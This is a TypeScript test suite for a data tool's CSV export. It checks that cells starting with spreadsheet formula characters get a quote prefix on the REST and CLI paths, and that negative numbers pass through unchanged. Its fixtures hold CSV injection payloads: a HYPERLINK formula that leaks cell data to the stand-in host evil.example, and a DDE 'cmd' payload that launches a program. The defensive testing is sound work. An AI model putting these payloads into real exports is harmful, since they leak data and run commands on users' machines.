/**
 * Reproduction 9 (CSV) of issue 17: exports go to Excel and Power BI, and a text cell starting with
 * `=`, `+`, `-` or `@` (or tab / CR) was written as is, so a spreadsheet ran it as a formula. Now
 * such text cells get a leading single quote and are quoted (OWASP), on every CSV path: REST
 * buffered and streamed (GET, POST, saved queries) and the CLI; numbers, negative ones included,
 * are never altered; MAATSTAF_CSV_FORMULA_ESCAPE=false turns it off.
 *
 * Data: a few `export_facts` rows with hostile labels and negative amounts (the export fixture).
 */
import type { FastifyInstance } from 'fastify';
import supertest from 'supertest';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/core/csv-cell.js';
import { formatCsv } from '../../src/cli/table-output.js';
import type { Engine } from '../../src/engine/types.js';
import { buildApp } from '../../src/server/app.js';
import type { ServerState } from '../../src/http/state.js';
import { parseCsv } from '../api/helpers/csv-parse.js';
import { engineFor } from '../api/helpers/demo-app.js';
import { cliEnv, runCli } from '../helpers/cli.js';
import { ENGINES, openTestWarehouse, type TestWarehouse } from '../helpers/warehouses.js';
import { createExportFactsTable } from '../helpers/export-facts.js';

const DEFINITIONS = 'tests/fixtures/definitions/export';

/** label → the cell a spreadsheet must show as text (hand-written). */
const LABELS: readonly (readonly [string, string])[] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
  ['+31 6 12345678', `'+31 6 12345678`],
  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
  ['\tTAB', `'\tTAB`],
  ['\rCR', `'\rCR`],
  // A text cell that is a plain number runs nothing: left as is.
  ['-12.5', '-12.5'],
  ['plain, "quoted"', 'plain, "quoted"'],
  ['gewoon', 'gewoon'],
];
/** Amounts per row: negative ones must come out as plain negative numbers. */
const AMOUNTS = [-5, 7, -12, 3, 0, 1, -1, 2, -300];

const QUERY = { metrics: ['amount_total'], groupBy: ['fact__code', 'fact__label'], orderBy: ['fact__code'] };
const SQL = 'SELECT code, label, sum(amount)::int AS amount FROM export_facts GROUP BY code, label ORDER BY code';

describe.each(ENGINES)('CSV formula injection on %s (reproduction 9)', (engineName) => {
  let wh: TestWarehouse;
  let engine: Engine;
  const apps: FastifyInstance[] = [];

  async function app(state: Partial<ServerState>): Promise<FastifyInstance> {
    const a = await buildApp({ state: { warehouse: wh, engine, definitionsError: undefined, ...state }, logger: false, web: { root: false } });
    await a.ready();
    apps.push(a);
    return a;
  }

  /** The expected records from hand-written SQL, labels as the spreadsheet-safe cells. */
  async function expected(escape: boolean): Promise<string[][]> {
    const safe = new Map(LABELS);
    const { rows } = await wh.query<{ code: string; label: string; amount: number }>(SQL);
    return [['fact__code', 'fact__label', 'amount_total'], ...rows.map((r) => [r.code, escape ? safe.get(r.label)! : r.label, String(r.amount)])];
  }

  beforeAll(async () => {
    wh = await openTestWarehouse(engineName);
    await createExportFactsTable(wh);
    for (const [i, [label]] of LABELS.entries()) {
      // kind = label: the saved query (by code and kind) exports the same cells.
      await wh.query("INSERT INTO export_facts VALUES ($1, DATE '2026-01-01', $3, $2, $3, 'n', $4)", [i + 1, `f${i + 1}`, label, AMOUNTS[i]]);
    }
    engine = await engineFor(DEFINITIONS, wh);
  }, 120_000);

  afterEach(async () => {
    for (const a of apps.splice(0)) await a.close();
  });
  afterAll(async () => {
    await wh?.dispose();
  });

  it('streamed and buffered REST CSV (GET, POST, saved query) neutralise formula cells; numbers untouched', async () => {
    const streamed = await app({});
    const buffered = await app({ engine: { ...engine, stream: async () => undefined } });
    const want = await expected(true);
    expect(want.slice(1).map((r) => r[2])).toEqual(AMOUNTS.map(String));
    for (const a of [streamed, buffered]) {
      const post = await supertest(a.server).post('/v1/query?format=csv').send(QUERY).expect(200);
      expect(parseCsv(post.text)).toEqual(want);
      // OWASP: the neutralised cell is quoted as well.
      expect(post.text).toContain(`f1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5\r\n`);
      expect(post.text).toContain(`f3,"'-2+3+cmd|' /C calc'!A0",-12\r\n`);
      expect(post.text).toContain('f7,-12.5,-1\r\n');
      const get = await supertest(a.server).get('/v1/query').query({ metrics: 'amount_total', groupBy: 'fact__code,fact__label', orderBy: 'fact__code', format: 'csv', bom: 'true' }).expect(200);
      expect(get.text).toBe(`\uFEFF${post.text}`);
      const saved = await supertest(a.server).get('/v1/saved-queries/amounts_by_code/results?format=csv').expect(200);
      expect(saved.text).toBe(post.text.replace('fact__label', 'fact__kind'));
    }
  });

  it('MAATSTAF_CSV_FORMULA_ESCAPE=false writes the text as it is (streamed and buffered)', async () => {
    const want = await expected(false);
    for (const a of [await app({ csvFormulaEscape: false }), await app({ csvFormulaEscape: false, engine: { ...engine, stream: async () => undefined } })]) {
      const res = await supertest(a.server).post('/v1/query?format=csv').send(QUERY).expect(200);
      expect(parseCsv(res.text)).toEqual(want);
    }
  });

  it.runIf(engineName === 'postgres')('the CLI (maatstaf query --format csv) neutralises them too, and obeys the opt-out', async () => {
    const schema = (await wh.query<{ s: string }>('SELECT current_schema() AS s')).rows[0]!.s;
    const args = ['query', '--metrics-dir', DEFINITIONS, '--database-url', process.env.TEST_DATABASE_URL!, '--schema', schema, '--metrics', 'amount_total', '--group-by', 'fact__code,fact__label', '--order-by', 'fact__code', '--format', 'csv'];
    const on = await runCli(args, cliEnv());
    expect(on.code, on.stderr).toBe(0);
    expect(parseCsv(on.stdout)).toEqual(await expected(true));
    const off = await runCli(args, cliEnv({ MAATSTAF_CSV_FORMULA_ESCAPE: 'false' }));
    expect(parseCsv(off.stdout)).toEqual(await expected(false));
  }, 120_000);
});

describe('csvCell', () => {
  it('escapes only text: every OWASP start character, never a number', () => {
    for (const [raw, shown] of LABELS) {
      const cell = csvCell(raw);
      expect(parseCsv(`${cell}\r\n`)[0]).toEqual([shown]);
      if (shown !== raw) expect(cell.startsWith(`"'`)).toBe(true);
    }
    expect([csvCell(-5), csvCell(-0.25), csvCell(-1e21), csvCell(0)]).toEqual(['-5', '-0.25', '-1e+21', '0']);
    expect(csvCell('=1+1', { formulaEscape: false })).toBe('=1+1');
    // The CLI's CSV: the same writer as the API's, numbers unrounded (only its table rounds).
    const cli = formatCsv({ columns: [{ name: 'label' }, { name: 'n' }] as never, rows: [{ label: '@cmd', n: -2.1234567 }] });
    expect(cli).toBe(`label,n\r\n"'@cmd",-2.1234567\r\n`);
  });
});
